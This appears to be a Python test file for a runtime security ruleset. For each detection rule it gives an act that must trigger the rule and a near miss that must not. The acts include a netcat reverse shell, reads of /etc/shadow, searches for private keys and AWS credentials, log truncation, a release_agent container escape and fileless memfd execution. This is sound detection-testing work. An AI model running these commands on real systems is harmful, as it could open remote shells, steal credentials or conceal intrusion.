"""For every rule of the upstream stable ruleset: an act that must fire it, a near miss that must not."""

from tests.live.upstream.act import WRITE_TRUNCATE, Act, pair

READ = "os.O_RDONLY"

NOT_HERE = {
    "Contact K8S API Server From Container": "needs a name server that knows kubernetes.default.svc",
    "Debugfs Launched in Privileged Container": "needs a privileged container, which this runtime refuses",
}
"""Rules that this kind of machine cannot act out, and why."""

ACTS: list[Act] = [
    *pair(
        "Directory traversal monitored file read",
        f'touch("/usr/../usr/../etc/passwd", {READ})',
        f'touch("/usr/../etc/passwd", {READ})',
    ),
    Act(
        "Directory traversal monitored file read",
        fires=True,
        code=f'touch("/usr/../usr/../etc/no-such-file", {READ})',
        note="a failed open counts",
    ),
    *pair(
        "Read sensitive file trusted after startup",
        'python_as("nginx", "import time; time.sleep(5.5); open(\'/etc/shadow\')")',
        'python_as("nginx", "open(\'/etc/shadow\')")',
    ),
    *pair("Read sensitive file untrusted", 'open("/etc/shadow")', 'open("/etc/passwd")'),
    Act(
        "Read sensitive file untrusted",
        fires=False,
        code='run(program("iptables", "/bin/cat"), "/etc/shadow")',
        note="a program that the rule trusts",
    ),
    Act(
        "Read sensitive file untrusted",
        fires=True,
        code='os.chdir("/etc"); open("./../etc//shadow")',
        note="a relative path that is not normalised",
    ),
    *pair(
        "Run shell untrusted",
        "python_as(\"nginx\", \"import subprocess; subprocess.run(['/bin/bash', '-c', 'true; true'])\")",
        "python_as(\"webapp\", \"import subprocess; subprocess.run(['/bin/bash', '-c', 'true; true'])\")",
    ),
    *pair(
        "System user interactive",
        'python_as("sshd", "import subprocess; subprocess.run([\'/bin/true\'], user=1)")',
        'python_as("other", "import subprocess; subprocess.run([\'/bin/true\'], user=1)")',
    ),
    *pair(
        "Terminal shell in container",
        'on_terminal(program("runc", PYTHON), "-c", SHELL)',
        'run(program("runc", PYTHON), "-c", SHELL)',
        container=True,
    ),
    *pair(
        "Netcat Remote Code Execution in Container",
        'run(program("nc"), "10.0.0.1", "4444", "-e", "/bin/sh")',
        'run(program("nc"), "-z", "10.0.0.1", "4444")',
        container=True,
    ),
    *pair(
        "Search Private Keys or Passwords",
        'run("/bin/grep", "BEGIN RSA PRIVATE", "/dev/null")',
        'run("/bin/grep", "BEGINNING", "/dev/null")',
    ),
    Act(
        "Search Private Keys or Passwords",
        fires=True,
        code='run("/usr/bin/find", ".", "-name", "id_ed25519")',
    ),
    *pair(
        "Clear Log Activities",
        f'touch("auth.log", {WRITE_TRUNCATE})',
        'touch("auth.log", os.O_WRONLY | os.O_CREAT)',
    ),
    *pair("Remove Bulk Data from Disk", 'run("/usr/bin/shred", "--version")', 'run("/bin/rm", "--version")'),
    *pair(
        "Create Symlink Over Sensitive Files",
        'os.symlink("/etc/shadow", "link")',
        'os.symlink("/etc/hostname", "link")',
    ),
    *pair(
        "Create Hardlink Over Sensitive Files",
        'libc.link(b"/etc/shadow", b"/dev/null/nowhere")',
        'libc.link(b"/etc/hostname", b"/dev/null/nowhere")',
    ),
    *pair(
        "Packet socket created in container",
        "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)",
        "socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
        container=True,
    ),
    *pair(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "s = connected_socket(); os.dup2(s.fileno(), 0)",
        "os.dup2(os.open('/dev/null', os.O_RDONLY), 0)",
        container=True,
    ),
    Act(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        fires=False,
        code="s = connected_socket(); os.dup2(s.fileno(), 9)",
        container=True,
        note="not one of the standard streams",
    ),
    *pair(
        "Linux Kernel Module Injection Detected",
        "libc.syscall(175, None, 0, None)",
        "libc.syscall(175, None, 0, None)",
        container=True,
        miss_container=False,
    ),
    *pair(
        "Detect release_agent File Container Escapes",
        f'touch("release_agent", {WRITE_TRUNCATE})',
        'touch("release_agents", os.O_WRONLY | os.O_CREAT)',
        container=True,
    ),
    *pair(
        "PTRACE attached to process",
        "with_sleeper(16)",
        "with_sleeper(17)",
    ),
    *pair(
        "PTRACE anti-debug attempt",
        "os.fork() or (ptrace(0, 0), os._exit(0)); os.wait()",
        "ptrace(17, 1)",
    ),
    *pair(
        "Find AWS Credentials",
        'run("/bin/grep", "aws_access_key_id", "/dev/null")',
        'run("/bin/grep", "access_key", "/dev/null")',
    ),
    Act("Find AWS Credentials", fires=True, code='run("/usr/bin/find", ".", "-path", "x/.aws/credentials")'),
    *pair(
        "Execution from /dev/shm",
        'd = "/dev/shm/act%d" % os.getpid(); os.mkdir(d); shutil.copy("/bin/true", d + "/x")\n'
        'run(d + "/x"); shutil.rmtree(d)',
        'run(program("x"))',
    ),
    *pair(
        "Drop and execute new binary in container",
        'run(overlay() + "/new")',
        'run(overlay() + "/old")',
        container=True,
    ),
    *pair(
        "Disallowed SSH Connection Non Standard Port",
        'own_network("203.0.113.7")\nrun(program("ssh", PYTHON), "-c", SSH_TO % 443)',
        'own_network("203.0.113.7")\nrun(program("ssh", PYTHON), "-c", SSH_TO % 22)',
    ),
    *pair(
        "Fileless execution via memfd_create",
        'fd = memfd_of("/bin/true"); run("/proc/%d/fd/%d" % (os.getpid(), fd))',
        "run(program('payload'))",
    ),
]
